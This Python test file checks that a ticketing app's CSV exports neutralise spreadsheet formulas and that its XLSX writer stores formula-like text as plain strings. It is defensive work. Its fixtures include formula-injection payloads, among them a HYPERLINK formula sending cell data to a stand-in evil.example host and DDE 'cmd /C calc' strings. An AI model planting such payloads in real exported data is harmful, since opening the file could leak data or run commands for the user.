"""CSV exports neutralise cells a spreadsheet would run as a formula; XLSX cells are always plain strings."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse

from otklik.core.csv_safe import csv_safe, csv_safe_row
from otklik.core.xlsx import write_xlsx
from otklik.tickets import services

FORMULAS = ["=1+1", "+7 999", "-2+3", "@SUM(A1)", "\tcmd", "\r=x", '=HYPERLINK("http://evil")']


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_safe_formula_start_gets_quote(text):
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Cannot log in", "", "a=b", "1-2", 5, -5, None, 2.5])
def test_csv_safe_plain_value_unchanged(value):
    assert csv_safe(value) == value


def test_csv_safe_row_each_cell():
    assert csv_safe_row(["=a", "b", 3]) == ["'=a", "b", 3]


def _rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_staff_list_export_csv_formula_title_neutralised(client, cast, make_ticket):
    make_ticket(title='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    make_ticket(title="@SUM(1+1)*cmd|' /C calc'!A0")
    client.force_login(cast.admin)
    rows = _rows(client.get(reverse("tickets:staff_list"), {"export": "csv"}))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + '=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def test_history_csv_formula_values_neutralised(client, cast, make_ticket):
    ticket = make_ticket(title="Plain title")
    services.ticket_update(actor=cast.staff, ticket=ticket, changes={"title": "=cmd|' /C calc'!A0"})
    services.ticket_update(actor=cast.staff, ticket=ticket, changes={"title": "-1+1"})
    client.force_login(cast.staff)
    rows = _rows(client.get(reverse("tickets:staff_history", args=[ticket.pk])))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells and "'-1+1" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_write_xlsx_formula_text_written_as_inline_string():
    target = io.BytesIO()
    write_xlsx(target, [["title"], ["=1+1"], ["@SUM(A1)"], ["bad\ufffe\uffffchars"]])
    sheet = zipfile.ZipFile(target).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    assert '<c r="A2" t="inlineStr"><is><t xml:space="preserve">=1+1</t></is></c>' in sheet
    # U+FFFE and U+FFFF are not allowed in XML: a workbook holding them does not open.
    assert "\ufffe" not in sheet and "\uffff" not in sheet
